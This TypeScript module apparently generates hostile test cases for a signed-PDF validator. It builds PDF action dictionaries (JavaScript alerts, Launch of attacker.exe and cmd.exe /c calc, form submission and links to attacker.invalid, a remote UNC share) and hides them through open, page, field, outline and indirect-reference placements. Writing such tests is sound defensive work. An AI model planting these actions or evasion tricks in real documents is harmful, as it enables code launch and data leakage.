/** Actions in the revision the issuer signed: what acts by itself or leads out of the document (act-…). */
import type { HostileCase } from '../hostile-case.ts';
import { add, all, inCatalog, inForm, inPage } from './abuse.ts';
import { type Variation, type Workshop, asCases, edit, signStream, signedAttacks } from './workshop.ts';

type Change = NonNullable<Variation['change']>;

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

/** Action dictionaries by what they do. */
const actions: Readonly<Record<string, string>> = {
  script,
  'script-in-a-stream': '<< /S /JavaScript /JS 21 0 R >>',
  launch: '<< /S /Launch /F (attacker.exe) >>',
  'launch-windows': '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>',
  'submit-form': '<< /S /SubmitForm /F << /FS /URL /F (https://attacker.invalid/) >> /Flags 4 >>',
  'import-data': '<< /S /ImportData /F (attacker.fdf) >>',
  'reset-form': '<< /S /ResetForm >>',
  'go-to-file': '<< /S /GoToR /F (attacker.pdf) /D [0 /Fit] >>',
  'go-to-share': '<< /S /GoToR /F (\\\\\\\\attacker.invalid\\\\share) /D [0 /Fit] >>',
  'go-to-embedded': '<< /S /GoToE /T << /R /C /N (a) >> /D [0 /Fit] >>',
  rendition: '<< /S /Rendition /OP 0 /R 21 0 R >>',
  'rich-media': '<< /S /RichMediaExecute /TA 6 0 R /CMD << /C (play) >> >>',
  movie: '<< /S /Movie /T (a) >>',
  sound: '<< /S /Sound /Sound 21 0 R >>',
  hide: '<< /S /Hide /T (Signature1) >>',
  'set-layers': '<< /S /SetOCGState /State [/OFF 21 0 R] >>',
  transition: '<< /S /Trans /Trans << >> >>',
  'view-3d': '<< /S /GoTo3DView /TA 6 0 R /V /F >>',
};

/** Only refused where nobody clicks. */
const automatic: Readonly<Record<string, string>> = {
  'web-page': '<< /S /URI /URI (https://attacker.invalid/) >>',
  named: '<< /S /Named /N /Print >>',
  thread: '<< /S /Thread /D 0 >>',
  unknown: '<< /S /Attack >>',
  'without-type': '<< /D [3 0 R /Fit] >>',
  'go-to-then-script': `<< /S /GoTo /D [3 0 R /Fit] /Next ${script} >>`,
  'go-to-then-several': `<< /S /GoTo /D [3 0 R /Fit] /Next [${script}] >>`,
  'go-to-then-web-page':
    '<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://attacker.invalid/) >> >>',
};

const target = add(21, '<< /Length 1 >>\nstream\n1\nendstream');
const link = (action: string): Change =>
  all(
    edit(3, '[6 0 R]', '[6 0 R 20 0 R]'),
    add(20, `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] ${action} >>`),
    target,
  );

/** Where scripts hang. */
const places: Readonly<Record<string, Change>> = {
  'catalog-closing': inCatalog(`/AA << /WC ${script} >>`),
  'catalog-printing': inCatalog(`/AA << /WP ${script} >>`),
  'catalog-empty-actions': inCatalog('/AA << >>'),
  'names-script': inCatalog(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`),
  'names-script-below': all(
    inCatalog('/Names << /JavaScript << /Kids [20 0 R] >> >>'),
    add(20, `<< /Limits [(a) (a)] /Names [(a) ${script}] >>`),
  ),
  'page-opening': inPage(`/AA << /O ${script} >>`),
  'page-closing': inPage(`/AA << /C ${script} >>`),
  'page-tree': edit(2, '/Kids', `/AA << /O ${script} >> /Kids`),
  'field-entering': edit(6, '/FT', `/AA << /E ${script} >> /FT`),
  'field-calculating': all(
    edit(1, '[6 0 R]', '[6 0 R 20 0 R]'),
    add(20, `<< /FT /Tx /T (amount) /V (1) /AA << /C ${script} >> >>`),
  ),
  'field-action': edit(6, '/FT', `/A ${script} /FT`),
  'form-script': inForm(`/JS (app.alert\\(1\\))`),
  'link-entering': link(`/AA << /PV ${script} >>`),
  'link-then-script': link(`/A << /S /URI /URI (https://example.invalid/) /Next ${script} >>`),
  outline: all(
    inCatalog('/Outlines 20 0 R'),
    add(20, '<< /Type /Outlines /First 21 0 R /Last 21 0 R >>'),
    add(21, `<< /Title (a) /Parent 20 0 R /A ${script} >>`),
  ),
  unreferenced: add(20, script),
  'type-by-reference': all(inCatalog('/OpenAction << /S 20 0 R /D [3 0 R /Fit] >>'), add(20, '/Launch')),
  'link-type-by-reference': all(link('/A << /S 22 0 R /F (attacker.exe) >>'), add(22, '/Launch')),
  'link-type-twice-by-reference': all(
    link('/A 23 0 R'),
    add(22, '/Launch'),
    add(23, '<< /S 22 0 R /F (a.exe) >>'),
  ),
  'action-by-reference': all(inCatalog('/OpenAction 20 0 R'), add(20, script)),
  'action-a-string': inCatalog('/OpenAction (attacker)'),
  'action-a-name': inCatalog('/OpenAction /Attacker'),
};

export function activeActions(workshop: Workshop): readonly HostileCase[] {
  const opening = Object.entries({ ...actions, ...automatic }).map(
    ([name, action]) =>
      [`open-${name}`, ['C10'], { change: all(inCatalog(`/OpenAction ${action}`), target) }] as const,
  );
  const clicking = Object.entries(actions).map(
    ([name, action]) => [`link-${name}`, ['C10'], { change: link(`/A ${action}`) }] as const,
  );
  const placed = Object.entries(places).map(([name, change]) => [name, ['C10'], { change }] as const);
  const packed = ['script', 'launch', 'go-to-file'].map((name) => {
    const change = inCatalog(`/OpenAction ${actions[name]}`);
    const file = () => signStream(workshop, { change, packed: [1, 2, 5] }).bytes;
    return [`packed-${name}`, ['C10'], file, { signedAsIs: true }] as const;
  });
  return [...signedAttacks('act', workshop, [...opening, ...clicking, ...placed]), ...asCases('act', packed)];
}
